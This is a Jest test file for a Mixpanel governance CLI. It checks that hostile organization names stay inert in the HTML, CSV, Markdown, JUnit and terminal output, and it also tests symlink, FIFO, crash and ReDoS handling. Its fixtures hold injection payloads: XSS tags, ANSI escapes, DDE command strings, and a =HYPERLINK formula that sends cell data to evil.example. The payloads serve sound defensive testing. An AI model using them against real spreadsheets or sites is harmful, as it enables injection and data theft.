/**
 * Output safety: hostile organization data is inert in every output (HTML escaped under a strict
 * CSP, terminal free of control sequences, CSV free of formulas, Markdown free of raw HTML); report
 * writing never follows a symlink out of the output folder; and a crash while writing leaves no
 * half-written report (an in-process render that throws, a folder in the way, and a real process
 * killed at the moment it writes).
 */
import { spawn, spawnSync } from 'node:child_process';
import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse as parseCsv } from 'csv-parse/sync';
import { parse as parseYaml } from 'yaml';
import { FORMATS } from '../../src/report/formats.js';
import { csvColumns } from '../../src/report/render-csv.js';
import type { FrameworkInfo } from '../../src/report/report.js';
import { TRACKER_COLUMNS } from '../../src/offboard/tracker.js';
import { FIXTURE_NOW, fixtureOrg, startFakeMixpanel, type FakeMixpanel } from '../support/fake-mixpanel/index.js';
import { runCli, tempDir } from '../support/run-cli.js';
import { runCaptured } from './support/capture.js';
import { BUILT_CLI, spawnCli } from '../support/spawn-cli.js';

const NOW = '2026-06-01T00:00:00Z';
const SMALL = join(process.cwd(), 'test', 'fixtures', 'small-state.yaml');

/** Organization data an attacker controls: member and service-account names, the org's name. */
export const HOSTILE = {
  script: '<script>window.__xss=1</script>',
  img: '<img src=x onerror="window.__xss=2">',
  template: "{{constructor.constructor('return process')()}}",
  ansi: '\u001b[31mRED\u001b[0m\u001b]0;pwned\u0007\u001b[2J',
  formula: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  plus: "+cmd|' /C calc'!A0",
  at: '@SUM(1+1)*cmd|',
  minus: '-2+3+cmd|',
  tab: '\t=1+1',
};

/** A state whose failing findings name hostile resources (4 owners, 5 service accounts without expiry). */
export function hostileState(): Record<string, unknown> {
  const state = parseYaml(readFileSync(SMALL, 'utf8')) as { organization: { name: string }; slices: Record<string, { data: unknown[] }> };
  state.organization.name = `Evil ${HOSTILE.ansi} ${HOSTILE.script} Co`;
  const names = Object.values(HOSTILE);
  state.slices.members!.data = names.slice(0, 5).map((name, i) => ({ email: `owner${i}@small.example`, name, orgRole: 'owner', status: 'active', projectRoles: [], teams: [] }));
  state.slices.serviceAccounts!.data = names.map((username, i) => ({ id: String(100 + i), username, created: '2026-01-01T00:00:00Z', expires: null, lastUsed: '2026-05-01T00:00:00Z', projects: [] }));
  return state;
}

const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

describe('hostile organization data is inert', () => {
  let out: string;
  let stdout: string;
  beforeAll(async () => {
    const dir = tempDir('mph-hostile-');
    const file = join(dir, 'state.json');
    writeFileSync(file, JSON.stringify(hostileState(), null, 2));
    out = join(dir, 'out');
    const r = await runCli(['scan', '--state', file, '--out', out, '--now', NOW, '--format', 'all', '--fail-on', 'none']);
    expect(r.stderr).toBe('');
    stdout = r.stdout;
    const offboard = await runCli(['offboard', 'plan', '--state', file, '--email', 'owner0@small.example', '--out', join(dir, 'offboard'), '--now', NOW]);
    expect(offboard.code).toBe(0);
    stdout += offboard.stdout;
  });

  it('HTML: escaped, under a CSP that allows no remote or inline-injected script', () => {
    const html = readFileSync(join(out, 'report.html'), 'utf8');
    expect(html).not.toContain('<script>window.__xss');
    expect(html).not.toContain('<img src=x');
    expect(html).toContain('&lt;script&gt;window.__xss&#x3D;1&lt;/script&gt;');
    expect(html).toContain('{{constructor.constructor(&#x27;return process&#x27;)()}}');
    const csp = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html)?.[1] ?? '';
    expect(csp).toMatch(/default-src 'none'/);
    expect(csp).toMatch(/script-src 'sha256-[^']+'/);
    expect(csp).not.toMatch(/unsafe-inline|unsafe-eval|https?:|\*/);
    // Every <script> in the page is the one hashed inline script.
    expect(html.match(/<script\b/g)?.length).toBe(1);
  });

  it('terminal: no escape sequence or control character reaches stdout (scan and offboard)', () => {
    expect(stdout).toContain('Evil');
    expect(CONTROL.test(stdout.replace(/[\n\t]/g, ''))).toBe(false);
  });

  it('CSV: no cell a spreadsheet would read as a formula', () => {
    const rows = parseCsv(readFileSync(join(out, 'report.csv'), 'utf8'), { bom: true }) as string[][];
    const cells = rows.flat();
    expect(cells.some((c) => c.includes('HYPERLINK'))).toBe(true);
    for (const c of cells) expect({ c, formula: /^[=+\-@\t\r]/.test(c) }).toEqual({ c, formula: false });
    expect(cells).toContain(`'${HOSTILE.formula}`);
  });

  it('Markdown and JUnit: no raw HTML from the data', () => {
    const md = readFileSync(join(out, 'report.md'), 'utf8');
    // Inside code spans HTML is shown literally (GFM); outside them it must be escaped.
    expect(md.replace(/`[^`\n]*`/g, '')).not.toMatch(/(?<!\\)<(script|img)/);
    expect(CONTROL.test(md.replace(/[\n\t]/g, ''))).toBe(false);
    const junit = readFileSync(join(out, 'report.junit.xml'), 'utf8');
    expect(junit).not.toMatch(/<script|<img/);
  });
});

describe('hostile data from the live API is inert on the terminal', () => {
  let fake: FakeMixpanel;
  beforeAll(async () => {
    const org = fixtureOrg();
    org.name = `Acme ${HOSTILE.ansi}`;
    org.serviceAccounts[0]!.username = `${HOSTILE.ansi}${HOSTILE.script}`;
    org.projects[0]!.name = `Web ${HOSTILE.ansi}`;
    fake = await startFakeMixpanel({ org });
  });
  afterAll(async () => {
    await fake?.close();
  });

  it('the progress display and warnings on stderr, and the summary on stdout, carry no control sequences', async () => {
    const dir = tempDir('mph-live-hostile-');
    // A members export naming a project that does not exist, with an escape sequence: it is echoed in a warning.
    writeFileSync(join(dir, 'members.csv'), `Email,Name,Org Role,Projects\nada@acme.example,Ada,owner,"Nope\u001b[2J\u001b[31m (admin)"\n`);
    const env = { NO_COLOR: '1', MIXPANEL_SERVICE_ACCOUNT_USERNAME: fake.credentials.username, MIXPANEL_SERVICE_ACCOUNT_SECRET: fake.credentials.secret };
    const r = await runCaptured(['scan', '--api-base-url', fake.baseUrl, '--members', 'members.csv', '--out', 'out', '--now', new Date(FIXTURE_NOW).toISOString(), '--fail-on', 'none'], { env, cwd: dir, now: FIXTURE_NOW, tty: true });
    expect(r.code).toBe(0);
    expect(r.stderr).toMatch(/organization 4242/);
    expect(r.stderr).toMatch(/warning: .*Nope/);
    expect({ stderr: r.stderr, control: CONTROL.test(r.stderr.replace(/[\n\t]/g, '')) }).toEqual({ stderr: r.stderr, control: false });
    expect(CONTROL.test(r.stdout.replace(/[\n\t]/g, ''))).toBe(false);
  });
});

describe('writing reports never follows a symlink out of --out', () => {
  function plant(): { dir: string; out: string; outside: string } {
    const dir = tempDir('mph-symlink-');
    const out = join(dir, 'out');
    const outside = join(dir, 'outside');
    mkdirSync(out);
    mkdirSync(outside);
    return { dir, out, outside };
  }

  it('symlinks named like the reports are replaced, and their targets are untouched', async () => {
    const { out, outside } = plant();
    const names = Object.values(FORMATS).map((f) => f.file);
    for (const name of names) {
      writeFileSync(join(outside, name), 'ORIGINAL');
      symlinkSync(join(outside, name), join(out, name));
    }
    const r = await runCli(['scan', '--state', SMALL, '--out', out, '--now', NOW, '--format', 'all', '--fail-on', 'none', '--no-evidence']);
    expect(r.code).toBe(0);
    for (const name of names) {
      expect(readFileSync(join(outside, name), 'utf8')).toBe('ORIGINAL');
      expect(lstatSync(join(out, name)).isFile()).toBe(true);
    }
    expect(readdirSync(outside).sort()).toEqual([...names].sort());
  });

  it('an evidence subfolder that is a symlink is refused before anything is written', async () => {
    const { out, outside } = plant();
    symlinkSync(outside, join(out, 'evidence'));
    const r = await runCli(['scan', '--state', SMALL, '--out', out, '--now', NOW, '--fail-on', 'none']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/symbolic link/);
    expect(readdirSync(outside)).toEqual([]);
    expect(readdirSync(out)).toEqual(['evidence']);
  });

  it('a live scan replaces a planted state.json symlink instead of writing through it', async () => {
    const fake = await startFakeMixpanel();
    try {
      const { out, outside } = plant();
      writeFileSync(join(outside, 'state.json'), 'ORIGINAL');
      symlinkSync(join(outside, 'state.json'), join(out, 'state.json'));
      const env = { NO_COLOR: '1', MIXPANEL_SERVICE_ACCOUNT_USERNAME: fake.credentials.username, MIXPANEL_SERVICE_ACCOUNT_SECRET: fake.credentials.secret };
      const r = await runCli(['scan', '--api-base-url', fake.baseUrl, '--out', out, '--now', new Date(FIXTURE_NOW).toISOString(), '--fail-on', 'none'], { env, now: FIXTURE_NOW });
      expect(r.code).toBe(0);
      expect(readFileSync(join(outside, 'state.json'), 'utf8')).toBe('ORIGINAL');
      expect(lstatSync(join(out, 'state.json')).isFile()).toBe(true);
    } finally {
      await fake.close();
    }
  });
});

describe('a crash while writing leaves no half-written report', () => {
  const KILL_PRELOAD = join(process.cwd(), 'test', 'robustness', 'support', 'kill-while-writing.mjs');

  function withOldReports(): string {
    const out = join(tempDir('mph-crash-'), 'out');
    mkdirSync(out);
    for (const f of Object.values(FORMATS)) writeFileSync(join(out, f.file), 'OLD');
    return out;
  }

  it('a renderer that throws after the others rendered: nothing is written, the old reports stay', async () => {
    const out = withOldReports();
    const md = FORMATS.md!;
    const original = md.render;
    md.render = () => {
      throw new Error('renderer crashed');
    };
    try {
      const r = await runCli(['scan', '--state', SMALL, '--out', out, '--now', NOW, '--format', 'all', '--fail-on', 'none', '--no-evidence']);
      expect(r.code).toBe(4);
      expect(r.stderr).toMatch(/renderer crashed/);
      expect(r.stderr).not.toMatch(/\n\s+at /);
    } finally {
      md.render = original;
    }
    for (const f of Object.values(FORMATS)) expect(readFileSync(join(out, f.file), 'utf8')).toBe('OLD');
    expect(readdirSync(out).filter((n) => n.startsWith('.'))).toEqual([]);
  });

  it('--debug adds the stack of an internal error, and only then', async () => {
    const md = FORMATS.md!;
    const original = md.render;
    md.render = () => {
      throw new Error('renderer crashed');
    };
    try {
      const r = await runCli(['scan', '--state', SMALL, '--out', join(tempDir(), 'out'), '--now', NOW, '--format', 'md', '--debug']);
      expect(r.code).toBe(4);
      expect(r.stderr).toMatch(/\n\s+at /);
    } finally {
      md.render = original;
    }
  });

  it('a folder in the way of one report: nothing is written, the old reports stay', async () => {
    const out = withOldReports();
    rmSync(join(out, 'report.md'));
    mkdirSync(join(out, 'report.md'));
    const r = await runCli(['scan', '--state', SMALL, '--out', out, '--now', NOW, '--format', 'all', '--fail-on', 'none', '--no-evidence']);
    expect(r.code).toBe(4);
    expect(r.stderr).toMatch(/folder is in the way/);
    for (const f of Object.values(FORMATS)) if (f.file !== 'report.md') expect(readFileSync(join(out, f.file), 'utf8')).toBe('OLD');
    expect(readdirSync(out).filter((n) => n.startsWith('.'))).toEqual([]);
  });

  it('a process killed while it writes leaves each report whole or absent', async () => {
    const dir = tempDir('mph-kill-');
    /** One scan, killed with SIGKILL at `at` (see support/kill-while-writing.mjs): what it left is checked. */
    const killedScan = async (at: string) => {
      const out = join(dir, at.replace(':', '-'));
      const child = spawn(process.execPath, ['--import', KILL_PRELOAD, BUILT_CLI, 'scan', '--state', SMALL, '--out', out, '--now', NOW, '--format', 'all', '--fail-on', 'none', '--no-evidence'], {
        stdio: 'ignore',
        env: { PATH: process.env.PATH ?? '', NO_COLOR: '1', MPH_KILL_AT: at },
      });
      const timer = setTimeout(() => child.kill('SIGKILL'), 60_000);
      const signal = await new Promise<NodeJS.Signals | null>((resolve) => child.on('exit', (_code, sig) => resolve(sig)));
      clearTimeout(timer);
      const left = existsSync(out) ? readdirSync(out) : [];
      const reports = Object.values(FORMATS).map((f) => f.file).filter((name) => left.includes(name));
      for (const name of reports) {
        const text = readFileSync(join(out, name), 'utf8');
        if (name.endsWith('.json') || name.endsWith('.sarif')) expect(() => JSON.parse(text)).not.toThrow();
        if (name.endsWith('.html')) expect(text.trimEnd().endsWith('</html>')).toBe(true);
        if (name.endsWith('.xml')) expect(text.trimEnd().endsWith('</testsuites>')).toBe(true);
      }
      return { at, signal, reports: reports.length, temporary: left.filter((n) => n.endsWith('.tmp')).length };
    };
    // Halfway through writing the first and the fifth report, and just after the first and the
    // eighth are put in place: each a real process that dies at that moment (not a timing race).
    const runs = await Promise.all(['write:1', 'write:5', 'rename:1', 'rename:8'].map(killedScan));
    expect(runs.map((r) => ({ at: r.at, signal: r.signal }))).toEqual(runs.map((r) => ({ at: r.at, signal: 'SIGKILL' })));
    // Killed while writing: the half-written temporary files are left, no report is in place.
    expect(runs.filter((r) => r.at.startsWith('write')).map((r) => [r.at, r.reports, r.temporary > 0])).toEqual([['write:1', 0, true], ['write:5', 0, true]]);
    // Killed while putting them in place: the ones renamed are whole, the others absent.
    expect(runs.filter((r) => r.at.startsWith('rename')).map((r) => [r.at, r.reports])).toEqual([['rename:1', 1], ['rename:8', 8]]);
    rmSync(dir, { recursive: true, force: true });
  });
});

/** Bidirectional controls, zero-width characters and raw ESC: none may reach a reader. */
const BIDI = /[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
const ZERO_WIDTH = /[\u200b-\u200d\u2060\ufeff]/;
const HAS_PYTHON = spawnSync('python3', ['--version']).status === 0;

/** Rows and field counts of a CSV file as Python's csv module reads it (undefined without python3). */
function pythonCsv(file: string): { rows: number; widths: number[]; cells: string[] } | undefined {
  if (!HAS_PYTHON) return undefined;
  const script = 'import csv,json,sys\nrows=list(csv.reader(open(sys.argv[1],newline="",encoding="utf-8-sig")))\nprint(json.dumps({"rows":len(rows),"widths":sorted(set(len(r) for r in rows)),"cells":[c for r in rows for c in r]}))';
  const r = spawnSync('python3', ['-c', script, file], { encoding: 'utf8' });
  expect(r.status).toBe(0);
  return JSON.parse(r.stdout) as { rows: number; widths: number[]; cells: string[] };
}

/** A cell a spreadsheet would run: a formula character first, also after leading white space or a line break. */
const FORMULA = /^[\s\u00a0\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]/;

describe('every CSV the tool writes reads back with real parsers (row and field counts hold)', () => {
  const LINE_HOSTILE = ['\r@SUM(1)', 'first line\nsecond, "quoted" line', ' =1+1', '\n-2+3', 'adm\u202Enimi'];

  it('report.csv: multi-line cells are quoted, no row splits, no formula after a leading CR/LF or space', async () => {
    const dir = tempDir('mph-csv-');
    const state = hostileState() as { slices: Record<string, { data: { name?: string; username?: string }[] }> };
    state.slices.members!.data.forEach((m, i) => { m.name = LINE_HOSTILE[i % LINE_HOSTILE.length]!; });
    state.slices.serviceAccounts!.data.forEach((s, i) => { s.username = `${LINE_HOSTILE[i % LINE_HOSTILE.length]!}${i}`; });
    writeFileSync(join(dir, 'state.json'), JSON.stringify(state));
    const r = await runCli(['scan', '--state', join(dir, 'state.json'), '--out', join(dir, 'out'), '--now', NOW, '--format', 'csv,json', '--fail-on', 'none', '--no-evidence']);
    expect(r.code).toBe(0);
    const report = JSON.parse(readFileSync(join(dir, 'out', 'report.json'), 'utf8')) as { results: { resources: unknown[] }[]; frameworkInfo: FrameworkInfo[] };
    const CSV_COLUMNS = csvColumns(report.frameworkInfo);
    const expectedRows = 1 + report.results.reduce((n, x) => n + Math.max(1, x.resources.length), 0);
    const file = join(dir, 'out', 'report.csv');
    // Strict parse: a row split by an unquoted line break has the wrong number of fields.
    const rows = parseCsv(readFileSync(file, 'utf8'), { bom: true }) as string[][];
    expect(rows).toHaveLength(expectedRows);
    expect(new Set(rows.map((x) => x.length))).toEqual(new Set([CSV_COLUMNS.length]));
    // The remediation of real policies spans several lines: it stays in one cell.
    expect(rows.some((x) => x[CSV_COLUMNS.indexOf('remediation')]!.includes('\n'))).toBe(true);
    const cells = rows.flat();
    expect(cells).toContain("'\r@SUM(1)0");
    for (const c of cells) expect({ c, formula: FORMULA.test(c) || /^[\t\r\n]/.test(c), bidi: BIDI.test(c) }).toEqual({ c, formula: false, bidi: false });
    const py = pythonCsv(file);
    if (py) {
      expect(py.rows).toBe(expectedRows);
      expect(py.widths).toEqual([CSV_COLUMNS.length]);
      expect(py.cells.filter((c) => FORMULA.test(c) || /^[\t\r\n]/.test(c))).toEqual([]);
    }
  });

  it('the IAM tracker: justification and ticket with line breaks and formulas stay one row each', async () => {
    const dir = tempDir('mph-tracker-');
    const fixtures = join(process.cwd(), 'test', 'fixtures', 'offboard');
    const tracker = join(dir, 'iam-tracker.csv');
    const args = (justification: string) => ['offboard', 'verify', '--email', 'late@contractor.dev', '--method', 'delete', '--state', join(fixtures, 'after-delete.yaml'),
      '--out', join(dir, 'evidence'), '--tracker', tracker, '--now', '2026-06-02T00:00:00Z', '--removed-at', '2026-05-31T12:00:00Z',
      '--administrator', 'bob@acme.com', '--requestor', 'pm@acme.com', '--ticket', '\n=1+1', '--justification', justification];
    expect((await runCli(args('\r@SUM(1)\nsecond line'))).code).toBe(0);
    // Appended to the existing tracker: the same rules on the second write.
    expect((await runCli(args('line one\r\n+cmd|calc'))).code).toBe(0);
    const rows = parseCsv(readFileSync(tracker, 'utf8'), { bom: true }) as string[][];
    expect(rows).toHaveLength(3);
    expect(new Set(rows.map((x) => x.length))).toEqual(new Set([TRACKER_COLUMNS.length]));
    const col = (name: string) => rows.slice(1).map((x) => x[rows[0]!.indexOf(name)]);
    expect(col('Justification')).toEqual(["'\r@SUM(1)\nsecond line", 'line one\r\n+cmd|calc']);
    expect(col('Ticket')).toEqual(["'\n=1+1", "'\n=1+1"]);
    const py = pythonCsv(tracker);
    if (py) {
      expect(py.rows).toBe(3);
      expect(py.widths).toEqual([TRACKER_COLUMNS.length]);
      expect(py.cells.filter((c) => FORMULA.test(c))).toEqual([]);
    }
  });
});

describe('links, mentions, bidirectional controls and escapes from outside are neutralised everywhere', () => {
  const ORG = 'Evil https://evil.example/login www.evil.example \u202Egnp.exe @everyone \u001b[31mRED\u001b[0m Co';
  let dir: string;
  let scan: { code: number; stdout: string; stderr: string };
  beforeAll(async () => {
    dir = tempDir('mph-links-');
    const state = hostileState() as { organization: { name: string }; slices: Record<string, { data: { email?: string; name?: string; username?: string }[] }> };
    state.organization.name = ORG;
    state.slices.members!.data[0]!.email = 'ada.lovelace@example.com';
    state.slices.members!.data[1]!.name = 'Bob \u2066admin\u2069 \u200fx';
    state.slices.serviceAccounts!.data[0]!.username = 'svc\u202Etxt.exe';
    writeFileSync(join(dir, 'state.json'), JSON.stringify(state));
    scan = await runCli(['scan', '--state', join(dir, 'state.json'), '--out', join(dir, 'out'), '--now', NOW, '--format', 'all', '--fail-on', 'none']);
    expect(scan.code).toBe(0);
    // An earlier --now stands in for an older run to diff against; it is before the snapshot's collection, so it must be allowed.
    const old = await runCli(['scan', '--state', join(dir, 'state.json'), '--out', join(dir, 'old'), '--now', '2026-01-01T00:00:00Z', '--allow-now-before-snapshot', '--format', 'json', '--fail-on', 'none', '--no-evidence']);
    expect(old.code).toBe(0);
  });

  function outsideCodeSpans(md: string): string {
    return md.replace(/`[^`\n]*`/g, '');
  }

  it('report.md and diff.md: no bare URL, www host, address or mention outside a code span; no invisible characters', async () => {
    const diff = await runCli(['diff', join(dir, 'old', 'report.json'), join(dir, 'out', 'report.json'), '--format', 'md']);
    for (const md of [readFileSync(join(dir, 'out', 'report.md'), 'utf8'), diff.stdout]) {
      expect(md).toContain('Evil');
      const bare = outsideCodeSpans(md);
      expect(bare).not.toMatch(/:\/\/|www\.|@/);
      expect(BIDI.test(md)).toBe(false);
      expect(ZERO_WIDTH.test(md)).toBe(false);
      expect(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/.test(md)).toBe(false);
      expect(md).toContain('`https://evil.example/login`');
      expect(md).toContain('`@everyone`');
    }
    // A copied address is the address: inside a code span, character for character.
    expect(readFileSync(join(dir, 'out', 'report.md'), 'utf8')).toContain('`ada.lovelace@example.com`');
  });

  it('report.html holds no raw ESC byte and no bidirectional control; the terminal neither', () => {
    const html = readFileSync(join(dir, 'out', 'report.html'), 'utf8');
    expect(html).toContain('gnp.exe');
    expect(html.includes('\u001b')).toBe(false);
    expect(BIDI.test(html)).toBe(false);
    expect(BIDI.test(scan.stdout)).toBe(false);
    expect(scan.stdout.includes('\u001b')).toBe(false);
  });

  it('report.junit.xml (what CI test views show) holds no ESC byte or bidirectional control either', () => {
    const xml = readFileSync(join(dir, 'out', 'report.junit.xml'), 'utf8');
    expect(xml).toContain('gnp.exe');
    expect(xml.includes('\u001b')).toBe(false);
    expect(BIDI.test(xml)).toBe(false);
  });

  it('verify-evidence prints no raw ESC byte or bidirectional control from an unparsable manifest', async () => {
    const bundle = join(tempDir('mph-badmanifest-'), 'evidence');
    mkdirSync(bundle);
    writeFileSync(join(bundle, 'manifest.json'), '\u001b]0;pwned\u0007\u001b[2J\u202e{"x": nope');
    writeFileSync(join(bundle, '\u001b[31mfile\u202e.txt'), 'x');
    const r = await runCli(['verify-evidence', bundle]);
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/NOT intact/);
    expect(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/.test(r.stdout.replace(/\n/g, ''))).toBe(false);
    expect(BIDI.test(r.stdout)).toBe(false);
  });
});

/**
 * What the tool reads back from a folder it wrote is opened as a regular file only, bounded. These
 * run the built CLI as its own process: on a FIFO a read that blocks would otherwise stall the test
 * runner itself, so the process is killed if it does not finish (and the test then fails).
 */
describe('files read back from an output folder: regular files only, bounded', () => {
  function bundleWith(plant: (manifest: string) => void): { out: string; bundle: string } {
    const out = join(tempDir('mph-readback-'), 'out');
    const bundle = join(out, 'evidence');
    mkdirSync(bundle, { recursive: true });
    plant(join(bundle, 'manifest.json'));
    return { out, bundle };
  }
  const fifo = (path: string) => expect(spawnSync('mkfifo', [path]).status).toBe(0);

  it('a FIFO as the manifest: verify-evidence says so (exit 1) and scan refuses the folder (exit 2); neither hangs', async () => {
    const { out, bundle } = bundleWith(fifo);
    // Separate processes, so that a hang is a failed test, not a stuck runner; both only read, so at once.
    const [v, s] = await Promise.all([
      spawnCli(['verify-evidence', bundle], { timeoutMs: 60_000 }),
      spawnCli(['scan', '--state', SMALL, '--out', out, '--now', NOW, '--fail-on', 'none'], { timeoutMs: 60_000 }),
    ]);
    expect(v.code).toBe(1);
    expect(v.stdout).toMatch(/manifest\.json: the manifest is not a regular file/);
    expect(s.code).toBe(2);
    expect(s.stderr).toMatch(/holds no evidence bundle/);
  });

  it('a symlink to /dev/zero as the manifest is not followed', async () => {
    const { out, bundle } = bundleWith((m) => symlinkSync('/dev/zero', m));
    const [v, s] = await Promise.all([
      spawnCli(['verify-evidence', bundle], { timeoutMs: 60_000 }),
      spawnCli(['scan', '--state', SMALL, '--out', out, '--now', NOW, '--fail-on', 'none'], { timeoutMs: 60_000 }),
    ]);
    expect(v.code).toBe(1);
    expect(v.stdout).toMatch(/the manifest is a symbolic link/);
    expect(s.code).toBe(2);
  });

  it('a manifest above the size bound is refused unread', async () => {
    const { bundle } = bundleWith((m) => writeFileSync(m, Buffer.alloc(17 * 1024 * 1024, 0x20)));
    const v = await runCli(['verify-evidence', bundle]);
    expect(v.code).toBe(1);
    expect(v.stdout).toMatch(/above the 16777216-byte limit/);
  });

  it('a FIFO named as the IAM tracker is refused (exit 2), nothing written', async () => {
    const dir = tempDir('mph-tracker-fifo-');
    const tracker = join(dir, 'iam-tracker.csv');
    fifo(tracker);
    const fixtures = join(process.cwd(), 'test', 'fixtures', 'offboard');
    const r = await runCli(['offboard', 'verify', '--email', 'late@contractor.dev', '--method', 'delete', '--state', join(fixtures, 'after-delete.yaml'),
      '--out', join(dir, 'evidence'), '--tracker', tracker, '--now', '2026-06-02T00:00:00Z', '--removed-at', '2026-05-31T12:00:00Z']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/the tracker is not a regular file/);
    expect(existsSync(join(dir, 'evidence'))).toBe(false);
  });

  it('a bundle file grown past its recorded size is reported without being hashed', async () => {
    const out = join(tempDir('mph-grown-'), 'out');
    expect((await runCli(['scan', '--state', SMALL, '--out', out, '--now', NOW, '--fail-on', 'none'])).code).toBe(0);
    writeFileSync(join(out, 'evidence', 'reports', 'report.html'), 'x'.repeat(10));
    const v = await runCli(['verify-evidence', join(out, 'evidence')]);
    expect(v.code).toBe(1);
    expect(v.stdout).toMatch(/reports\/report\.html: is 10 bytes, the manifest says \d+/);
  });
});

describe('a catastrophic policy pattern cannot hang validate or scan', () => {
  const PATTERN = '^([a-z0-9]+[-.]?)+$';
  const HOSTILE_NAME = `${'a'.repeat(34)}!`;
  function policyDir(pattern: string): string {
    const dir = tempDir('mph-redos-');
    writeFileSync(join(dir, 'MP-9.1.9.yaml'), [
      'id: MP-9.1.9',
      'title: Service account usernames are lower-case words',
      'level: L1',
      'severity: low',
      'section: "9.1"',
      'source: guide',
      'description: Usernames are words of lower-case letters and digits joined by dots or dashes.',
      'rationale: A naming convention makes owners easy to find.',
      'remediation: Rename the service account.',
      'frameworks:',
      '  soc2: [CC6.1]',
      'requires: [serviceAccounts]',
      'rule:',
      '  each: $.serviceAccounts',
      `  assert: { path: username, matches: '${pattern}' }`,
      '  resource: { type: service_account, id: username, name: username }',
      'cases:',
      '  - name: a conventional name',
      '    state: { serviceAccounts: [{ id: "1", username: etl.sync-2, created: "2026-01-01T00:00:00Z", expires: null, lastUsed: null, projects: [] }] }',
      '    expect: pass',
      '  - name: a hostile name',
      `    state: { serviceAccounts: [{ id: "2", username: "${HOSTILE_NAME}", created: "2026-01-01T00:00:00Z", expires: null, lastUsed: null, projects: [] }] }`,
      '    expect: fail',
      '',
    ].join('\n'));
    return dir;
  }

  it('validate runs the case with a 35-character hostile name, and scan fails the check on it', async () => {
    const policies = policyDir(PATTERN);
    const dir = tempDir('mph-redos-state-');
    const state = parseYaml(readFileSync(SMALL, 'utf8')) as { slices: Record<string, { data: { username: string }[] }> };
    state.slices.serviceAccounts!.data[0]!.username = HOSTILE_NAME;
    writeFileSync(join(dir, 'state.json'), JSON.stringify(state));
    // Each in its own process (a catastrophic match would hang it, not the runner); independent, so at once.
    const [v, s] = await Promise.all([
      spawnCli(['validate', '--policies', policies], { timeoutMs: 120_000 }),
      spawnCli(['scan', '--policies', policies, '--state', join(dir, 'state.json'), '--out', join(dir, 'out'), '--now', NOW, '--format', 'json', '--fail-on', 'none', '--no-evidence'], { timeoutMs: 120_000 }),
    ]);
    expect(v.stderr).toBe('');
    expect(v.code).toBe(0);
    expect(s.code).toBe(0);
    const report = JSON.parse(readFileSync(join(dir, 'out', 'report.json'), 'utf8')) as { results: { id: string; status: string }[] };
    expect(report.results.find((r) => r.id === 'MP-9.1.9')!.status).toBe('fail');
  });

  it('a pattern the linear-time matcher cannot run (lookahead, back-reference) is refused when linted, with its position', async () => {
    for (const pattern of ['^(?=a)a', '(a)\\1']) {
      const r = await runCli(['validate', '--policies', policyDir(pattern)]);
      expect(r.code).toBe(2);
      expect(r.stderr).toMatch(/MP-9\.1\.9\.yaml:15:\d+: .*invalid regular expression: not supported by the linear-time matcher/);
    }
  });
});

describe('disk full during the evidence step: reports and evidence of one run are replaced together', () => {
  const PRELOAD = join(process.cwd(), 'test', 'robustness', 'support', 'enospc.mjs');

  it('a simulated ENOSPC while the bundle is written leaves the previous reports beside the previous bundle, which still verifies', async () => {
    const out = join(tempDir('mph-enospc-'), 'out');
    // The previous run needs no process of its own; the failing one does (its fs module is patched).
    const first = await runCli(['scan', '--state', SMALL, '--out', out, '--now', NOW, '--format', 'all', '--fail-on', 'none']);
    expect(first.code).toBe(0);
    const before = new Map(Object.values(FORMATS).map((f) => [f.file, readFileSync(join(out, f.file))]));
    const second = spawnSync(process.execPath, ['--import', PRELOAD, BUILT_CLI, 'scan', '--state', SMALL, '--out', out, '--now', '2026-06-02T00:00:00Z', '--format', 'all', '--fail-on', 'none'], { encoding: 'utf8', env: { PATH: process.env.PATH ?? '', NO_COLOR: '1' }, timeout: 120_000 });
    expect(second.status).toBe(4);
    expect(second.stderr).toMatch(/ENOSPC/);
    for (const [name, bytes] of before) expect({ name, same: readFileSync(join(out, name)).equals(bytes) }).toEqual({ name, same: true });
    expect(readdirSync(out).filter((n) => n.startsWith('.'))).toEqual([]);
    const v = await runCli(['verify-evidence', join(out, 'evidence')]);
    expect(v.stdout).toMatch(/: intact/);
    expect(v.code).toBe(0);
  });

  it('verify-evidence names reports beside the bundle that are not the bundle\'s own (another run\'s)', async () => {
    const out = join(tempDir('mph-beside-'), 'out');
    expect((await runCli(['scan', '--state', SMALL, '--out', out, '--now', NOW, '--format', 'json,md', '--fail-on', 'none'])).code).toBe(0);
    writeFileSync(join(out, 'report.md'), '# another run\n');
    const v = await runCli(['verify-evidence', join(out, 'evidence')]);
    expect(v.code).toBe(1);
    expect(v.stdout).toMatch(/beside\s+\.\.\/report\.md: the report\.md beside the bundle is not the one in it/);
  });
});
